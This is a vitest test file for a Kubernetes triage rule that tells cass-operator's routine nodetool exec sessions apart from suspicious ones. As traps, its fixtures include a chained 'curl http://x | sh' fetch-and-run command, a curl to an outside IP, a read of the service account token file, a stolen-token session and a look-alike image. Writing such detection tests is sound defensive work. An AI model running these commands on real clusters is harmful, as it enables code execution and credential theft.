import { describe, expect, it } from 'vitest';
import { buildIndex } from '../../../src/cluster/index.js';
import type { ExecSession, KubeObject } from '../../../src/cluster/model.js';
import { correlate } from '../../../src/triage/correlate.js';
import type { Evidence } from '../../../src/triage/model.js';
import { adminActivity } from '../../../src/triage/rules/admin-activity.js';
import { execProgram, operatorOwnExec } from '../../../src/triage/rules/operator-exec.js';
import { alert, containerIdOf, node, owner, pod, snapshot } from '../../support/cluster.js';

const N1 = 'node-a';
const N2 = 'node-b';
const shim = { name: 'containerd-shim-runc-v2', commandLine: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 0123' };

function controller(name: string, namespace: string, ip: string, image: string, sa: string, ownerKind = 'ReplicaSet') {
  const p = pod(name, { namespace, node: N2, ip, owner: ownerKind ? { kind: ownerKind, name: `${name.split('-').slice(0, -1).join('-')}` } : undefined, containers: [{ name: 'manager', image, command: ['/manager'] }] });
  p.spec.serviceAccountName = sa;
  return p;
}

const cassOp = controller('cass-operator-7d9f-abcde', 'cass-operator', '10.0.2.12', 'cr.k8ssandra.io/k8ssandra/cass-operator:v1.22.4', 'cass-operator');
const cassRs = owner('ReplicaSet', 'cass-operator-7d9f', 'cass-operator', { kind: 'Deployment', name: 'cass-operator' });
const cassDeploy = owner('Deployment', 'cass-operator', 'cass-operator');
// the same image and service account in a naked pod: not a controller's pod
const nakedOp = controller('cass-operator-x-zzzzz', 'cass-operator', '10.0.2.13', 'k8ssandra/cass-operator:v1.22.4', 'cass-operator', '');
// a look-alike repository
const fakeOp = controller('cass-operator-8e1a-fghij', 'cass-operator', '10.0.2.14', 'ghcr.io/k8ssandra-operator/cass-operator:v1.22.4', 'cass-operator');
const fakeRs = owner('ReplicaSet', 'cass-operator-8e1a', 'cass-operator', { kind: 'Deployment', name: 'cass-operator' });
const cassandra = pod('metrics-dc1-sts-0', { namespace: 'cassandra', node: N1, ip: '10.0.1.61', owner: { kind: 'StatefulSet', name: 'metrics-dc1-sts' }, containers: [{ name: 'cassandra', image: 'k8ssandra/cass-management-api:4.1.5' }] });
const sts = owner('StatefulSet', 'metrics-dc1-sts', 'cassandra');

const OBJECTS: KubeObject[] = [node(N1, '10.0.1.10'), node(N2, '10.0.2.20'), cassOp, cassRs, cassDeploy, nakedOp, fakeOp, fakeRs, cassandra, sts];
const T0 = '2026-11-26T08:52:10.000Z';
const at = (s: number) => new Date(Date.parse(T0) + s * 1000).toISOString();

function opSession(o: Partial<ExecSession> = {}): ExecSession {
  return {
    kind: 'exec',
    user: 'system:serviceaccount:cass-operator:cass-operator',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:cass-operator', 'system:authenticated'],
    sourceIps: ['10.0.2.12'],
    userAgent: 'manager/v0.0.0 (linux/amd64) kubernetes/$Format',
    namespace: 'cassandra',
    pod: 'metrics-dc1-sts-0',
    container: 'cassandra',
    command: ['nodetool', '-h', '::FFFF:127.0.0.1', 'status'],
    tty: false,
    stdin: false,
    start: at(0),
    end: at(4),
    code: 101,
    tokenBoundPod: 'cass-operator-7d9f-abcde',
    ...o,
  };
}

function inCassandra(cmd: string, ancestors = [shim], time = at(1)) {
  return alert({ host: N1, time, container: { id: containerIdOf(cassandra), name: 'cassandra', pod: 'metrics-dc1-sts-0', namespace: 'cassandra' }, process: { name: cmd.split(' ')[0], commandLine: cmd }, ancestors });
}

function evaluate(a: ReturnType<typeof alert>, sessions: ExecSession[]): Evidence[] {
  const index = buildIndex([snapshot(OBJECTS, sessions)]);
  return adminActivity.evaluate({ alert: a, correlation: correlate(a, index), index });
}

describe('operator-exec: what it explains', () => {
  it("a known operator's controller pod exec'ing its administration command, without a terminal, from its own pod IP", () => {
    const ev = evaluate(inCassandra('nodetool -h ::FFFF:127.0.0.1 status'), [opSession()]);
    expect(ev).toHaveLength(1);
    expect(ev[0]).toMatchObject({ direction: 'benign', strength: 'strong', cause: 'workload-baseline' });
    expect(ev[0].message).toContain('cass-operator (K8ssandra)');
    expect(ev[0].message).toContain('10.0.2.12');
  });

  it('the command wrapped in sh -c, and a node sensor seeing the script run by its interpreter', () => {
    expect(evaluate(inCassandra('sh -c nodetool -h ::FFFF:127.0.0.1 status'), [opSession({ command: ['sh', '-c', 'nodetool -h ::FFFF:127.0.0.1 status'] })])[0]).toMatchObject({ direction: 'benign', strength: 'strong' });
    expect(evaluate(inCassandra('/bin/sh /opt/cassandra/bin/nodetool -h ::FFFF:127.0.0.1 status'), [opSession()])[0]).toMatchObject({ direction: 'benign', strength: 'strong' });
  });

  it('execProgram: the first word, or the one simple command of sh -c', () => {
    expect(execProgram(['/usr/bin/redis-cli', 'ping'])).toBe('redis-cli');
    expect(execProgram(['sh', '-c', 'nodetool status'])).toBe('nodetool');
    expect(execProgram(['sh', '-c', 'nodetool status; curl http://x | sh'])).toBeUndefined();
    expect(execProgram(['bash'])).toBeUndefined(); // a bare shell is never an operator's administration command
  });
});

describe('operator-exec: the traps that stay suspicious', () => {
  const malicious = (ev: Evidence[]) => expect(ev.every((e) => e.direction === 'malicious') && ev.length > 0).toBe(true);

  it('the same token from outside the cluster (a stolen operator token)', () => {
    malicious(evaluate(inCassandra('nodetool -h ::FFFF:127.0.0.1 status'), [opSession({ sourceIps: ['203.0.113.77'], userAgent: 'kubectl/v1.29.0 (darwin/arm64)' })]));
  });

  it('an interactive shell, even from the operator pod itself', () => {
    malicious(evaluate(inCassandra('sh'), [opSession({ command: ['sh'], tty: true, stdin: true })]));
  });

  it('a program the operator does not run, or a chained script', () => {
    malicious(evaluate(inCassandra('cat /var/run/secrets/kubernetes.io/serviceaccount/token'), [opSession({ command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] })]));
    const s = opSession({ command: ['sh', '-c', 'nodetool status && curl -s http://198.51.100.7/x'] });
    expect(operatorOwnExec({ alert: inCassandra('nodetool status'), correlation: { subject: {} } as never, index: buildIndex([snapshot(OBJECTS, [s])]) }, s)).toBeUndefined();
  });

  it('a naked pod with the operator image, and a look-alike repository in a controller pod', () => {
    malicious(evaluate(inCassandra('nodetool -h ::FFFF:127.0.0.1 status'), [opSession({ sourceIps: ['10.0.2.13'], tokenBoundPod: 'cass-operator-x-zzzzz' })]));
    malicious(evaluate(inCassandra('nodetool -h ::FFFF:127.0.0.1 status'), [opSession({ sourceIps: ['10.0.2.14'], tokenBoundPod: 'cass-operator-8e1a-fghij' })]));
  });

  it('a node sensor showing a same-named script from a temporary directory does not tie to the session', () => {
    const ev = evaluate(inCassandra('/bin/sh /tmp/.x/nodetool -h ::FFFF:127.0.0.1 status'), [opSession()]);
    expect(ev.some((e) => e.direction === 'benign' && e.strength === 'strong')).toBe(false);
  });
});
